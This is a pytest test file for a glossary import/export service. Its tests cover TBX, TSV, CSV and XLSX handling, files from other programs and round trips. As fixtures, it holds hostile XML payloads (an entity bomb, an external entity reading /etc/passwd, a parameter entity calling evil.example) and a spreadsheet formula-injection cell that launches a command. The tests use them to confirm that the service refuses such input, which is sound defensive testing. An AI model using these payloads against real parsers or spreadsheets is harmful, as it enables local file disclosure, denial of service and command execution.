"""Glossaries in and out as files: of other programs, hostile, broken, and back unchanged."""

from __future__ import annotations

import io
import re
from collections.abc import Iterator
from dataclasses import replace
from operator import attrgetter
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy import delete

from workbench.domain.term import TERM_STATUSES, TERM_TYPES, Term
from workbench.errors import InputError, WorkbenchError
from workbench.services.term_entries import validated
from workbench.services.term_files import REPORTED, TermImport, exported, imported
from workbench.storage.database import Database
from workbench.storage.schema import terms as terms_table
from workbench.storage.term_batches import Running
from workbench.storage.terms import Terms

DATA = Path(__file__).parents[1] / "data" / "tbx"
FORMATS = ("tsv", "csv", "xlsx", "tbx", "tbx2")


@pytest.fixture
def terms(database: Database) -> Terms:
    return Terms(database)


def load(terms: Terms, text: str, name: str = "a.tsv", **more: bool) -> TermImport:
    return imported(terms, text.encode(), name, "甲", **more)


def bare(term: Term) -> Term:
    return replace(term, forms=(), id=0, revision=0)


# -- files of other programs ----------------------------------------------------------------

FOREIGN = {
    "multiterm-like.tbx": [
        Term(
            "Совет приграничных городов",
            "边境城市委员会",
            "org",
            variants=("边境城市会",),
            forbidden=("边城委",),
            provenance="章程",
        ),
        Term(
            "СПГ",
            "边境城市委员会",
            "org",
            variants=("边境城市会",),
            forbidden=("边城委",),
            provenance="章程",
        ),
    ],
    "memoq-like.tbx": [
        Term(
            "Письма с реки",
            "河畔来信",
            "media",
            forbidden=("河边来信",),
            note="еженедельник; из писем читателей",
        ),
        Term("переправа", "渡輪航線"),
    ],
    "iate-like.tbx": [Term("транзитная квота", "过境配额", variants=("转口限额",))],
    "version3-dca.tbx": [
        Term(
            "Аркадий Полозьев",
            "阿尔卡季·波洛济耶夫",
            "person",
            forbidden=("阿卡迪·波洛济耶夫",),
        )
    ],
    "version3-dct.tbx": [
        Term(
            "Тихая Пристань",
            "季哈亚普里斯坦",
            "place",
            variants=("季哈亚港",),
            note="устье реки",
            provenance="атлас",
        )
    ],
    "multiterm.xml": [
        Term("речной патруль", "江河巡逻队", forbidden=("河上巡逻队",), note="только в сводках")
    ],
}


@pytest.mark.parametrize("name", sorted(FOREIGN))
def test_files_of_other_programs_load(terms: Terms, name: str) -> None:
    report = imported(terms, (DATA / name).read_bytes(), name, "甲")
    assert [bare(term) for term in terms.list()] == sorted(
        FOREIGN[name], key=lambda term: term.source
    )
    assert len(report.conflicting) == 0
    keys = [row.key for row in report.refused]
    assert keys == (["terms.empty_side"] if name == "multiterm-like.tbx" else [])
    remarked = [row.key for row in report.remarks]
    assert remarked == (["terms.traditional"] if name == "memoq-like.tbx" else [])
    again = imported(terms, (DATA / name).read_bytes(), name, "甲")
    assert (len(again.added), again.known) == (0, len(FOREIGN[name]))


def test_the_translate_toolkit_reads_ours_and_we_read_its_own(terms: Terms) -> None:
    from translate.storage.tbx import tbxfile

    load(terms, "Ош\t奥什\tplace\nНарын\t纳伦\tplace\n")
    theirs = tbxfile.parsestring(exported(terms, "tbx2"))
    assert [(unit.source, unit.target) for unit in theirs.units] == [
        ("Нарын", "纳伦"),
        ("Ош", "奥什"),
    ]
    store = tbxfile(sourcelanguage="ru", targetlanguage="zh")
    unit = store.addsourceunit("Тихая Пристань")
    unit.target = "季哈亚港"
    report = imported(terms, bytes(store), "theirs.tbx", "甲")
    assert [(term.source, term.target) for term in report.added] == [("Тихая Пристань", "季哈亚港")]


@pytest.mark.parametrize(
    "heading", ["Russian\tChinese (Simplified)", "ru-RU\tzh-CN", "俄文\t简体中文", "原文\t译名"]
)
def test_headings_of_other_programs_are_understood(terms: Terms, heading: str) -> None:
    load(terms, f"{heading}\nОш\t奥什\n")
    assert [(term.source, term.target) for term in terms.list()] == [("Ош", "奥什")]


# -- attacks and damage ---------------------------------------------------------------------

LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
CONCEPT = (
    '<conceptEntry><langSec xml:lang="ru"><termSec><term>%s</term></termSec></langSec>'
    '<langSec xml:lang="zh"><termSec><term>名</term></termSec></langSec></conceptEntry>'
)
HOSTILE = {
    "billion laughs": f'<!DOCTYPE tbx [<!ENTITY l0 "ха">{LAUGHS}]><tbx><text><body>'
    f"{CONCEPT % '&l9;'}</body></text></tbx>",
    "a file of this machine": '<!DOCTYPE tbx [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    f"<tbx><text><body>{CONCEPT % '&x;'}</body></text></tbx>",
    "a parameter entity": '<!DOCTYPE tbx [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>'
    f"<tbx><text><body>{CONCEPT % 'Имя'}</body></text></tbx>",
    "nested too deep": f"<tbx>{'<a>' * 5000}",
    "cut off": f"<tbx><text><body>{CONCEPT % 'Имя'}<conceptEntry>",
    "no TBX": "<html><body><tbx_like/></body></html>",
}


@pytest.mark.parametrize("kind", sorted(HOSTILE))
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
def test_a_hostile_or_damaged_tbx_is_refused_whole(terms: Terms, kind: str, encoding: str) -> None:
    version = terms.version()
    with pytest.raises(InputError) as refused:
        imported(terms, HOSTILE[kind].encode(encoding), "a.tbx", "甲")
    assert all(refused.value.say(language)[0] for language in ("en", "zh", "ru"))
    assert (terms.list(), terms.version()) == ((), version)


@given(data=st.binary(max_size=400), suffix=st.sampled_from(("tsv", "csv", "xlsx", "tbx", "xml")))
@settings(max_examples=150)
def test_any_bytes_are_taken_or_refused_in_one_sentence(
    shared: Terms, data: bytes, suffix: str
) -> None:
    problem: WorkbenchError | None = None
    try:
        imported(shared, data, f"a.{suffix}", "甲", preview=True)
    except WorkbenchError as error:
        problem = error
    assert problem is None or all(problem.say(lang)[0] for lang in ("en", "zh", "ru"))


def test_a_failure_while_storing_leaves_nothing_half_imported(
    terms: Terms, monkeypatch: pytest.MonkeyPatch
) -> None:
    version = terms.version()
    add, calls = Running.add, []

    def failing(self: Running, entries: list[Term]) -> object:
        calls.append(len(entries))
        if len(calls) == 2:
            raise ZeroDivisionError
        return add(self, entries)

    monkeypatch.setattr(Running, "add", failing)
    rows = "".join(f"Имя{n} Слово\t名{n}\tterm\n" for n in range(1500))
    with pytest.raises(ZeroDivisionError):
        load(terms, rows)
    assert calls[0] == 1000
    assert (terms.list(), terms.list(deleted=True), terms.version()) == ((), (), version)


# -- what an import says --------------------------------------------------------------------


def test_rows_are_sorted_with_line_and_reason(terms: Terms) -> None:
    load(terms, "Путин\t普京\tperson\nДнепр\t第聂伯河\tplace\nСталинград\t斯大林格勒\tplace\n")
    (old,) = terms.list("Сталинград")
    terms.update(replace(old, status="deprecated"), old.revision, "甲", "改名")
    rows = [
        "ru\tzh\ttype\tflags\tstatus",
        "Путин\t普京",
        "Путин\t蒲亭",
        "Днепр\t第聂伯足球俱乐部\tmedia\tquotes",
        "Сталинград\t斯大林格勒\tplace",
        "Сталинград\t斯大林格勒\tplace\t\tdeprecated",
        "Ош\t奥什\tpoint",
        "Ош\t奥什\tplace\tfrom=2022-02-30",
        "Ош\t奥什\tplace\tfrom=2022-02-03 to=2022-02-01",
        "Oш\t奧什\tplace",
        "Ош\t奥希\tplace",
        "Ош\t奥什市\tplace\tto=2019-12-31",
        "Роза\t罗莎\tperson",
    ]
    report = load(terms, "\n".join(rows), preview=True)
    assert [(term.source, term.target) for term in report.added] == [
        ("Днепр", "第聂伯足球俱乐部"),
        ("Ош", "奧什"),
        ("Роза", "罗莎"),
    ]
    assert report.known == 2
    assert [(row.line, row.key) for row in report.conflicting] == [
        (3, "terms.conflicting"),
        (5, "terms.rejected_before"),
        (11, "terms.repeated_row"),
        (12, "terms.repeated_row"),
    ]
    assert [(row.line, row.key) for row in report.refused] == [
        (7, "terms.unknown_type"),
        (8, "terms.bad_date"),
        (9, "terms.dates_crossed"),
    ]
    assert [(row.line, row.key) for row in report.remarks] == [
        (10, "terms.homoglyphs"),
        (10, "terms.traditional"),
        (13, "terms.common_word"),
    ]
    for row in (*report.conflicting, *report.refused, *report.remarks):
        assert all(row.say(lang) and row.remedy(lang) for lang in ("en", "zh", "ru"))
    assert (terms.count(), report.batch) == (3, "")


def test_traditional_characters_are_replaced_only_when_asked(terms: Terms) -> None:
    row = "Ош\t奧什\tplace\t奧什縣|奥什州\n"
    (as_written,) = load(terms, row, preview=True).added
    assert (as_written.target, as_written.variants) == ("奧什", ("奧什縣", "奥什州"))
    report = load(terms, row, simplify=True)
    assert (report.added[0].target, report.added[0].variants) == ("奥什", ("奥什县", "奥什州"))
    assert len(report.remarks) == 0


def test_a_long_list_of_refused_rows_is_cut_and_counted(terms: Terms) -> None:
    rows = "".join(f"Слово{n}\n" for n in range(REPORTED + 500)) + "Ош\t奥什\n"
    report = load(terms, rows)
    assert (len(report.refused), len(report.refused.rows)) == (REPORTED + 500, REPORTED)
    assert (len(report.added), len(report.conflicting)) == (1, 0)


def test_a_file_without_a_usable_row(terms: Terms) -> None:
    for preview in (True, False):
        with pytest.raises(InputError) as empty:
            load(terms, "\n \t \n", preview=preview)
        assert empty.value.key == "terms.no_rows"
    assert len(load(terms, "слово\n", preview=True).refused) == 1
    with pytest.raises(InputError) as unusable:
        load(terms, "слово\n")
    assert unusable.value.key == "terms.nothing_imported"
    assert "俄文" in unusable.value.say("zh")[0], "also the row's own fault"


def test_a_heading_without_the_languages_is_no_entry(terms: Terms) -> None:
    report = load(terms, "type\tnote\nperson\tx\n", preview=True)
    assert (len(report.added), len(report.refused)) == (0, 1)
    report = load(terms, "Source\tTarget\nОш\t奥什\n", preview=True)
    assert [(term.source, term.target) for term in report.added] == [("Ош", "奥什")]
    report = load(terms, "источник\t来源\n", preview=True)
    assert [term.target for term in report.added] == ["来源"], "a word and its translation"


def test_progress_is_told(terms: Terms) -> None:
    heard: list[tuple[int, int]] = []
    rows = "".join(f"Имя{n} Слово\t名{n}\tterm\n" for n in range(1200)).encode()
    imported(terms, rows, "a.tsv", "甲", progress=lambda *step: heard.append(step))
    assert heard == [(1000, 1200), (1200, 1200)]


# -- out and back ---------------------------------------------------------------------------


@pytest.mark.parametrize("suffix", ["tsv", "csv", "xlsx"])
def test_cells_that_look_like_formulas_go_out_inert_and_come_back(
    terms: Terms, tmp_path: Path, suffix: str
) -> None:
    cells = ("=cmd|' /C calc'!A0", "+1", "-2", "@SUM(A1)", "'=x", "'quoted'", "''=y")
    rows = "".join(
        f"{cell} слово{n}\t{cell}名{n}\tterm\t\t{cell}\n" for n, cell in enumerate(cells)
    )
    load(terms, rows)
    before = [bare(term) for term in terms.list()]
    data = exported(terms, suffix)
    if suffix == "xlsx":
        for row in load_workbook(io.BytesIO(data)).active.iter_rows():
            assert all(cell.data_type in ("s", "n", "inlineStr") for cell in row)
    else:
        parts = re.split(r'[\t\n]|(?<!")"?,"?', data.decode("utf-8-sig"))
        assert not [part for part in parts if part[:1] in ("=", "+", "@")]
    other = Terms(Database(f"sqlite:///{tmp_path / 'other.sqlite'}"))
    imported(other, data, f"a.{suffix}", "乙")
    assert [bare(term) for term in other.list()] == before
    other.database.close()


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Terms]:
    database = Database(f"sqlite:///{tmp_path_factory.mktemp('files') / 'w.sqlite'}")
    yield Terms(database)
    database.close()


RUSSIAN = st.text("абвгдеёжзАБВОСР «»-—=+@'\"&<>,;", min_size=1, max_size=20)
CHINESE = st.text("奥什名字中国·《》=+@-'\"&<>,; ", min_size=1, max_size=12)
DATES = st.sampled_from(["", "2019-03-23", "2022-09-17"])


@st.composite
def entries(draw: st.DrawFn) -> list[Term]:
    """Some usable entries, as the desk would store them."""
    found: dict[str, Term] = {}
    for _ in range(draw(st.integers(1, 6))):
        term = Term(
            draw(RUSSIAN),
            draw(CHINESE),
            draw(st.sampled_from(TERM_TYPES)),
            draw(st.sampled_from(TERM_STATUSES)),
            tuple(draw(st.lists(CHINESE, max_size=3))),
            tuple(draw(st.lists(CHINESE, max_size=2))),
            draw(st.booleans()),
            draw(DATES),
            draw(DATES.filter(lambda day: day != "2019-03-23")),
            " ".join(draw(st.text("заметка 注 =+'\"<&>\t|", max_size=20)).split()),
            draw(st.text("источник http://пример", max_size=20)),
        )
        try:
            ready = validated(term)
        except InputError:
            continue
        found.setdefault(ready.source, ready)
    return list(found.values())


def empty(shared: Terms) -> None:
    with shared.database.begin() as connection:
        connection.execute(delete(terms_table))


@given(given_terms=entries(), to=st.sampled_from(FORMATS))
@settings(max_examples=60)
def test_round_trip_changes_nothing(shared: Terms, given_terms: list[Term], to: str) -> None:
    if not given_terms:
        return
    empty(shared)
    shared.add_all(given_terms, "甲")
    data, name = exported(shared, to), f"a.{to.removesuffix('2')}"
    again = imported(shared, data, name, "甲")
    assert (len(again.added), len(again.conflicting), len(again.refused)) == (0, 0, 0)
    assert again.known == len(given_terms)
    empty(shared)
    anew = imported(shared, data, name, "甲")
    assert (len(anew.conflicting), len(anew.refused)) == (0, 0)
    by_source = attrgetter("source")
    assert sorted(map(bare, shared.bare()), key=by_source) == sorted(given_terms, key=by_source)
